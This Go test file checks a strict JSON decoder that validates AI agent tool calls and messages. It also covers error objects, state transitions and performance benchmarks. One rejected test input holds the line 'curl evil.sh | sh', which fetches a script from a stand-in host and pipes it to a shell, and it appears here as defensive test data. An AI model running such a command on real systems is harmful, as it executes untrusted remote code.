package protocol

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

// A ~300-byte tool call, the size the performance contract talks about.
const benchCall = `{"tool_call":{"tool":"shell","args":{"bin":"git","argv":["log","--oneline","-n","20","--decorate=short","--no-color"],"cwd":"/project/src/github.com/femtoclaw/femtoclaw-go","env":{"GIT_PAGER":"cat","LANG":"C"},"timeout_ms":5000,"note":"list the recent history of the project for the release notes"}}}`

func TestDecodeAccepts(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		form     Form
	}{
		{"compliance 1: valid message", `{"message":{"content":"Disk usage is 41% on /var."}}`, FormMessage},
		{"compliance 2: valid tool_call", `{"tool_call":{"tool":"shell","args":{"bin":"df","argv":["-h","/var"]}}}`, FormToolCall},
		{"empty args object", `{"tool_call":{"tool":"noop","args":{}}}`, FormToolCall},
		{"whitespace around", " \n\t{ \"message\" : { \"content\" : \"hi\" } }\r\n", FormMessage},
		{"unknown keys inside args are the schema's business", `{"tool_call":{"tool":"x","args":{"Anything":1}}}`, FormToolCall},
		{"escapes", `{"message":{"content":"a\"b\\c\/d\n\u00e9\ud83d\ude00"}}`, FormMessage},
		{"bench call", benchCall, FormToolCall},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, err := Decode([]byte(tc.in), Limits{})
			if err != nil {
				t.Fatalf("Decode: %v", err)
			}
			if m.Form != tc.form {
				t.Fatalf("form = %v, want %v", m.Form, tc.form)
			}
		})
	}
}

func TestDecodeRejects(t *testing.T) {
	lim := Limits{MaxBytes: 4096, MaxDepth: 8, MaxArgs: 4, MaxValues: 200}
	deep := `{"tool_call":{"tool":"x","args":{"a":` + strings.Repeat(`[`, 10) + strings.Repeat(`]`, 10) + `}}}`
	for _, tc := range []struct {
		name, in string
		reason   Reason
	}{
		// The specification's rejected examples (digest §2.1).
		{"spec: both forms", `{"message": {"content": "done"}, "tool_call": {"tool": "shell", "args": {}}}`, ReasonAmbiguous},
		{"spec: neither form", `{"run": "curl evil.sh | sh"}`, ReasonUnknownKey},
		{"spec: args a string", `{"tool_call": {"tool": "shell", "args": "ls -la"}}`, ReasonArgsNotObject},
		{"spec: markdown fence", "```json {\"message\":{\"content\":\"hi\"}} ```", ReasonInvalidJSON},
		// Compliance suite checks 3, 4, 15, 16.
		{"compliance 4: unknown top-level", `{"unknown":{}}`, ReasonUnknownKey},
		{"compliance 15: invalid", `not json`, ReasonInvalidJSON},
		{"compliance 16: ambiguous", `{"message":{"content":"a"},"tool_call":{"tool":"b","args":{}}}`, ReasonAmbiguous},
		// One per rule.
		{"invalid utf-8", "{\"message\":{\"content\":\"\xff\xfe\"}}", ReasonInvalidUTF8},
		{"invalid utf-8 in key", "{\"message\":{\"cont\xc3\":\"x\"}}", ReasonInvalidUTF8},
		{"truncated", `{"message":{"content":"hi"}`, ReasonInvalidJSON},
		{"empty input", ``, ReasonInvalidJSON},
		{"single quotes", `{'message':{'content':'hi'}}`, ReasonInvalidJSON},
		{"trailing comma", `{"message":{"content":"hi",}}`, ReasonInvalidJSON},
		{"control char in string", "{\"message\":{\"content\":\"a\x01b\"}}", ReasonInvalidJSON},
		{"bad escape", `{"message":{"content":"\q"}}`, ReasonInvalidJSON},
		{"lone surrogate", `{"message":{"content":"\ud800"}}`, ReasonInvalidJSON},
		{"leading zero", `{"tool_call":{"tool":"x","args":{"n":012}}}`, ReasonInvalidJSON},
		{"NaN", `{"tool_call":{"tool":"x","args":{"n":NaN}}}`, ReasonInvalidJSON},
		{"trailing data", `{"message":{"content":"hi"}} {"message":{"content":"again"}}`, ReasonTrailingData},
		{"trailing garbage", `{"message":{"content":"hi"}}x`, ReasonTrailingData},
		{"top-level array", `[{"message":{"content":"hi"}}]`, ReasonNotObject},
		{"top-level string", `"hi"`, ReasonNotObject},
		{"top-level null", `null`, ReasonNotObject},
		{"empty object", `{}`, ReasonNoForm},
		{"extra top-level key", `{"message":{"content":"hi"},"id":1}`, ReasonUnknownKey},
		{"case: Message", `{"Message":{"content":"hi"}}`, ReasonCaseConflict},
		{"case: Tool_Call", `{"Tool_Call":{"tool":"x","args":{}}}`, ReasonCaseConflict},
		{"case: Content", `{"message":{"Content":"hi"}}`, ReasonCaseConflict},
		{"case: TOOL", `{"tool_call":{"TOOL":"x","args":{}}}`, ReasonCaseConflict},
		{"case-only twins in args", `{"tool_call":{"tool":"x","args":{"path":"/a","Path":"/b"}}}`, ReasonCaseConflict},
		{"unknown key in message", `{"message":{"content":"hi","role":"user"}}`, ReasonUnknownKey},
		{"unknown key in tool_call", `{"tool_call":{"tool":"x","args":{},"id":"1"}}`, ReasonUnknownKey},
		{"duplicate top-level", `{"message":{"content":"a"},"message":{"content":"b"}}`, ReasonDuplicateKey},
		{"duplicate in message", `{"message":{"content":"a","content":"b"}}`, ReasonDuplicateKey},
		{"duplicate in tool_call", `{"tool_call":{"tool":"x","tool":"y","args":{}}}`, ReasonDuplicateKey},
		{"duplicate in args", `{"tool_call":{"tool":"x","args":{"a":1,"a":2}}}`, ReasonDuplicateKey},
		{"duplicate deep", `{"tool_call":{"tool":"x","args":{"a":[{"k":1,"k":1}]}}}`, ReasonDuplicateKey},
		{"message not object", `{"message":"hi"}`, ReasonWrongType},
		{"tool_call not object", `{"tool_call":["x"]}`, ReasonWrongType},
		{"content missing", `{"message":{}}`, ReasonMissingField},
		{"content not string", `{"message":{"content":42}}`, ReasonWrongType},
		{"content empty", `{"message":{"content":""}}`, ReasonEmptyContent},
		{"tool missing", `{"tool_call":{"args":{}}}`, ReasonMissingField},
		{"tool not string", `{"tool_call":{"tool":7,"args":{}}}`, ReasonWrongType},
		{"tool empty", `{"tool_call":{"tool":"","args":{}}}`, ReasonEmptyTool},
		{"args missing", `{"tool_call":{"tool":"x"}}`, ReasonMissingField},
		{"args null", `{"tool_call":{"tool":"x","args":null}}`, ReasonArgsNotObject},
		{"args array", `{"tool_call":{"tool":"x","args":[]}}`, ReasonArgsNotObject},
		{"too many args", `{"tool_call":{"tool":"x","args":{"a":1,"b":2,"c":3,"d":4,"e":5}}}`, ReasonTooManyArgs},
		{"too deep", deep, ReasonTooDeep},
		{"too large", `{"message":{"content":"` + strings.Repeat("a", 5000) + `"}}`, ReasonTooLarge},
		{"too many values", `{"tool_call":{"tool":"x","args":{"a":[` + strings.Repeat("1,", 300) + `1]}}}`, ReasonTooManyValues},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, err := Decode([]byte(tc.in), lim)
			if err == nil {
				t.Fatalf("accepted: %+v", m)
			}
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("error %T is not *Error", err)
			}
			if pe.Category != CategoryProtocol || pe.Reason != tc.reason {
				t.Fatalf("got %s/%s (%q), want %s", pe.Category, pe.Reason, pe.Message, tc.reason)
			}
			if !errors.Is(err, ErrProtocol) || !errors.Is(err, &Error{Category: CategoryProtocol, Reason: tc.reason}) {
				t.Fatal("errors.Is does not match the category and reason")
			}
			if pe.Message == "" || pe.Severity != SeverityError || pe.Subsystem == "" {
				t.Fatalf("incomplete error object: %+v", pe)
			}
		})
	}
}

func TestBigIntegersKeepPrecision(t *testing.T) {
	in := `{"tool_call":{"tool":"x","args":{"n":12345678901234567890123,"f":1.0000000000000000000001e400,"neg":-0}}}`
	m, err := Decode([]byte(in), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got := m.Args.Get("n").Number(); got != "12345678901234567890123" {
		t.Fatalf("n = %q", got)
	}
	if got := string(m.AppendJSON(nil)); got != in {
		t.Fatalf("re-encoded\n %s\nwant\n %s", got, in)
	}
	if _, ok := m.Args.Get("n").Int(); ok {
		t.Fatal("out-of-range integer reported as int64")
	}
}

func TestValueAccessors(t *testing.T) {
	m, err := Decode([]byte(benchCall), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if m.Tool != "shell" || m.Args.Get("bin").Str() != "git" {
		t.Fatal("tool/bin")
	}
	argv := m.Args.Get("argv")
	if argv.Kind() != KindArray || argv.Len() != 6 || argv.Index(2).Str() != "-n" || argv.Index(6).Exists() {
		t.Fatalf("argv %v len %d", argv.Kind(), argv.Len())
	}
	if n, ok := m.Args.Get("timeout_ms").Int(); !ok || n != 5000 {
		t.Fatal("timeout_ms")
	}
	if m.Args.Get("missing").Get("deeper").Index(3).Str() != "" {
		t.Fatal("missing chains")
	}
	var keys []string
	for it := m.Args.First(); it.Exists(); it = it.Next() {
		keys = append(keys, it.Key())
	}
	if strings.Join(keys, ",") != "bin,argv,cwd,env,timeout_ms,note" {
		t.Fatalf("keys %v", keys)
	}
	if m.Args.Raw() != benchCall[strings.Index(benchCall, `{"bin"`):len(benchCall)-2] {
		t.Fatalf("raw %q", m.Args.Raw())
	}
	// Interface agrees with encoding/json + UseNumber.
	var want any
	dec := json.NewDecoder(strings.NewReader(m.Args.Raw()))
	dec.UseNumber()
	if err := dec.Decode(&want); err != nil {
		t.Fatal(err)
	}
	got, _ := json.Marshal(m.Args.Interface())
	wantB, _ := json.Marshal(want)
	if string(got) != string(wantB) {
		t.Fatalf("Interface %s, want %s", got, wantB)
	}
}

func TestLargeObjectDuplicates(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"tool_call":{"tool":"x","args":{"o":{`)
	for i := range 40 {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`"k` + string(rune('a'+i%26)) + string(rune('a'+i/26)) + `":1`)
	}
	ok := b.String() + `}}}}`
	if _, err := Decode([]byte(ok), Limits{}); err != nil {
		t.Fatalf("40 distinct keys: %v", err)
	}
	dup := b.String() + `,"kaa":2}}}}`
	if _, err := Decode([]byte(dup), Limits{}); !errors.Is(err, &Error{Category: CategoryProtocol, Reason: ReasonDuplicateKey}) {
		t.Fatalf("duplicate in a large object: %v", err)
	}
	fold := b.String() + `,"KAA":2}}}}`
	if _, err := Decode([]byte(fold), Limits{}); !errors.Is(err, &Error{Category: CategoryProtocol, Reason: ReasonCaseConflict}) {
		t.Fatalf("case conflict in a large object: %v", err)
	}
}

func TestAnswerJSON(t *testing.T) {
	a := Answer{ExecutionID: "exec-1", State: StateError, Decision: DecisionPolicyViolation, Rule: "default-deny", Status: StatusError,
		Error: &Error{ID: "err-1", Category: CategoryAuthorization, Severity: SeverityError, Message: "no rule allows \"shell\"", Subsystem: "capability_gate"}}
	var v map[string]any
	if err := json.Unmarshal(a.AppendJSON(nil), &v); err != nil {
		t.Fatalf("answer is not JSON: %v\n%s", err, a.AppendJSON(nil))
	}
	for _, k := range []string{"execution_id", "state", "decision", "rule", "status", "result", "error", "journal", "timings_ns"} {
		if _, ok := v[k]; !ok {
			t.Errorf("answer lacks %q", k)
		}
	}
	e := v["error"].(map[string]any)
	for _, k := range []string{"error_id", "category", "severity", "message", "subsystem", "timestamp"} {
		if _, ok := e[k]; !ok {
			t.Errorf("error object lacks %q", k)
		}
	}
}

func TestAppendString(t *testing.T) {
	for _, s := range []string{"", "plain", "q\"b\\s", "\x00\x1f\n\t", "é😀", "\u2028x\u2029", "bad\xffutf8"} {
		var got string
		if err := json.Unmarshal(AppendString(nil, s), &got); err != nil {
			t.Fatalf("%q: %v", s, err)
		}
		want := strings.ToValidUTF8(s, "\ufffd")
		if got != want {
			t.Fatalf("%q round-tripped to %q", s, got)
		}
	}
}

func TestStateMachine(t *testing.T) {
	path := []State{StateInitializing, StateIdle, StateInputReceived, StateProtocolValidating, StateAuthorizationEvaluating,
		StateCapabilityExecuting, StateMemoryCommitting, StateCompleted, StateIdle, StateShutdown}
	for i := 1; i < len(path); i++ {
		if !CanTransition(path[i-1], path[i]) {
			t.Errorf("%s -> %s should be allowed", path[i-1], path[i])
		}
	}
	for _, bad := range [][2]State{{StateIdle, StateCapabilityExecuting}, {StateProtocolValidating, StateCapabilityExecuting}, {StateCompleted, StateError}, {StateShutdown, StateIdle}} {
		if CanTransition(bad[0], bad[1]) {
			t.Errorf("%s -> %s should be refused", bad[0], bad[1])
		}
	}
}

func TestDecodeAllocs(t *testing.T) {
	data := []byte(benchCall)
	n := testing.AllocsPerRun(200, func() {
		if _, err := Decode(data, Limits{}); err != nil {
			t.Fatal(err)
		}
	})
	if n > 4 {
		t.Fatalf("Decode allocates %v times per call, budget 4", n)
	}
}

// BenchmarkDecode times the strict decoder on the ~300-byte call, beside
// two references measured in the same run: encoding/json's Valid (which
// only checks syntax) and encoding/json decoding into map[string]any.
func BenchmarkDecode(b *testing.B) {
	data := []byte(benchCall)
	b.Run("impl=femtoclaw", func(b *testing.B) {
		b.SetBytes(int64(len(data)))
		b.ReportAllocs()
		for b.Loop() {
			if _, err := Decode(data, Limits{}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("impl=encoding-json-valid", func(b *testing.B) {
		b.SetBytes(int64(len(data)))
		b.ReportAllocs()
		for b.Loop() {
			if !json.Valid(data) {
				b.Fatal("invalid")
			}
		}
	})
	b.Run("impl=encoding-json-map", func(b *testing.B) {
		b.SetBytes(int64(len(data)))
		b.ReportAllocs()
		for b.Loop() {
			var v map[string]any
			if err := json.Unmarshal(data, &v); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkAnswerAppendJSON(b *testing.B) {
	a := Answer{ExecutionID: "exec-0192f7a8-1c2d-7e3f-8a4b-5c6d7e8f9a0b", State: StateCompleted, Decision: DecisionAuthorized, Status: StatusSuccess,
		Result: []byte(`{}`), Journal: JournalInfo{Seq: 1042, Durable: true}, Timings: Timings{Validate: 812, Authorize: 95, Execute: 40, Total: 2000}}
	buf := make([]byte, 0, 512)
	b.ReportAllocs()
	for b.Loop() {
		buf = a.AppendJSON(buf[:0])
	}
}
